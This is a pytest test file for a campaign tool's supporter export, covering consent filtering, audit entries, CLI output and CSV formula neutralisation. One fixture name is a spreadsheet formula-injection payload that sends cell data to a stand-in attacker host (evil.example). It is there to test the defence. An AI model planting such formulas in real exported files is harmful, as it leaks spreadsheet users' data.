"""The organisation's list: only confirmed supporters who opted in (and did not opt out or get erased), formula cells
neutralised, streamed as CSV or JSON; an unknown campaign is one line and exit 1."""

from __future__ import annotations

import csv
import io
import json
import stat
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlalchemy.engine import Engine
from sqlmodel import Session, func, select

from social_campaign.config import Settings
from social_campaign.db import engine_for, session_scope
from social_campaign.errors import InputError
from social_campaign.mail.queue import opt_out
from social_campaign.models import AuditEntry, ConsentRecord, Pledge, PledgeStatus
from social_campaign.supporters.erase import erase_pledge
from social_campaign.supporters.export import COLUMNS, export, neutralise
from tests.supporters.seed import CO_SPONSOR, ORG, TEXTS, seed, text_hash

ROOT = Path(__file__).resolve().parents[2]
SLUG = "childrens-day"
NOW = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
NAMES = {2: '=HYPERLINK("http://evil.example/?x="&A1,"click")', 6: "@SUM(1+1)", 8: "-2+3", 0: "Opted Out"}


def scene(engine: Engine) -> None:
    """p0..p9 confirmed, even ones opted in; p0 then opted out of email, p4 erased; p1 ticked only the co-sponsor's
    box; p10 pending and p12 withdrawn (both ticked the box)."""
    ids = seed(engine, 10, names=NAMES)
    seed(engine, 1, start=10, status=PledgeStatus.pending)
    seed(engine, 1, start=12, status=PledgeStatus.withdrawn)
    with session_scope(engine) as s:
        conn = s.connection()
        opt_out(conn, campaign=SLUG, to_canonical="p0@example.org", now=NOW)
        c = ConsentRecord.__table__  # type: ignore[attr-defined]
        conn.execute(update(c).where(c.c.pledge_id == ids[1], c.c.organisation == CO_SPONSOR).values(given=True))
        pledge = s.get(Pledge, ids[4])
        assert pledge is not None
        erase_pledge(s, pledge, now=NOW, actor="test")


def _csv(engine: Engine, **kw: object) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    export(engine, SLUG, out, fmt="csv", actor="test", now=NOW, **kw)  # type: ignore[arg-type]
    reader = csv.reader(io.StringIO(out.getvalue(), newline=""))
    header = next(reader)
    assert tuple(header) == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in reader]


def test_csv_lists_only_opted_in_supporters_with_formulas_neutralised(any_engine: Engine) -> None:
    scene(any_engine)
    rows = _csv(any_engine)
    assert [r["email"] for r in rows] == ["p2@example.org", "p6@example.org", "p8@example.org"]
    assert [r["name"] for r in rows] == ["'" + NAMES[2], "'@SUM(1+1)", "'-2+3"]
    updates = TEXTS[("updates", ORG)]
    for r in rows:
        assert (r["country"], r["language"], r["organisation"]) == ("CH", "en", ORG)
        assert (r["consent_text"], r["consent_hash"], r["consent_version"]) == (updates, text_hash(updates), "1")
        assert r["consent_page_url"] == f"http://127.0.0.1:8000/c/{SLUG}"
        assert r["consent_given_at"].startswith("2026-01-10T12:00:00") and r["confirmed_at"]
    assert [r["email"] for r in _csv(any_engine, organisation=CO_SPONSOR)] == ["p1@example.org"]
    with Session(any_engine) as s:
        entries = s.exec(select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id)).all()
    assert [json.loads(e.details)["rows"] for e in entries] == [3, 1]
    assert all(e.campaign == SLUG and e.actor == "test" and json.loads(e.details)["complete"] for e in entries)


def test_json_is_one_array_of_the_same_supporters(any_engine: Engine) -> None:
    scene(any_engine)
    out = io.StringIO()
    assert export(any_engine, SLUG, out, fmt="json", actor="test", now=NOW) == 3
    data = json.loads(out.getvalue())
    assert [d["email"] for d in data] == ["p2@example.org", "p6@example.org", "p8@example.org"]
    assert data[1]["name"] == "@SUM(1+1)"  # JSON is not a spreadsheet: values as given
    assert set(data[0]) == set(COLUMNS)


def test_neutralise() -> None:
    for cell in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert neutralise(cell) == "'" + cell
    assert neutralise("Anna =1") == "Anna =1" and neutralise("") == ""


def test_unknown_campaign_or_format_writes_nothing(any_engine: Engine) -> None:
    scene(any_engine)
    out = io.StringIO()
    with pytest.raises(InputError, match="no campaign 'nope'"):
        export(any_engine, "nope", out, actor="test", now=NOW)
    with pytest.raises(InputError, match="--format 'xml'"):
        export(any_engine, SLUG, out, fmt="xml", actor="test", now=NOW)
    assert out.getvalue() == ""
    with Session(any_engine) as s:
        assert s.exec(select(func.count()).select_from(AuditEntry).where(AuditEntry.action == "export")).one() == 0


def test_cli_export_to_a_private_file_and_unknown_campaign(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path / "data", pledge_rate_limits="", _env_file=None)  # type: ignore[call-arg]
    engine = engine_for(settings)
    scene(engine)
    engine.dispose()
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "SOCIAL_CAMPAIGN_DATA_DIR": str(settings.data_dir)}

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "social_campaign", "supporters", "export", *args], cwd=ROOT,
                              env=env, capture_output=True, text=True, timeout=120)

    unknown = cli("--campaign", "nope")
    assert unknown.returncode == 1 and unknown.stdout == ""
    assert unknown.stderr == "error: no campaign 'nope' in the database (--campaign)\n"
    missing = cli("--campaign", SLUG, "--output", str(tmp_path / "no" / "list.csv"))
    assert missing.returncode == 1 and missing.stderr.count("\n") == 1 and "no such folder" in missing.stderr
    target = tmp_path / "list.csv"
    done = cli("--campaign", SLUG, "--output", str(target))
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"3 supporters of {SLUG} written to {target}\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    rows = list(csv.DictReader(io.StringIO(target.read_text(), newline="")))
    assert [r["email"] for r in rows] == ["p2@example.org", "p6@example.org", "p8@example.org"]
    as_json = cli("--campaign", SLUG, "--format", "json")
    assert as_json.returncode == 0 and len(json.loads(as_json.stdout)) == 3
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "list.csv"]  # no temp file left behind


def test_an_export_under_way_does_not_hold_pledge_intake(settings: Settings, engine: Engine) -> None:
    """SQLite: the export reads outside a write transaction, so a pledge can be stored while it streams."""
    import sqlite3

    from social_campaign.db import sqlite_path
    from social_campaign.supporters.export import rows_on

    scene(engine)
    stream = rows_on(engine, SLUG, None)
    assert next(stream)[2] == "p2@example.org"  # the export is under way, its cursor open
    path = sqlite_path(settings.resolved_database_url)
    writer = sqlite3.connect(str(path), timeout=1.0, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")  # what the intake's transaction takes; raises 'database is locked' if held
    writer.execute("UPDATE pledge SET country = 'FR' WHERE email = 'p9@example.org'")
    writer.execute("COMMIT")
    writer.close()
    assert [r[2] for r in stream] == ["p6@example.org", "p8@example.org"]
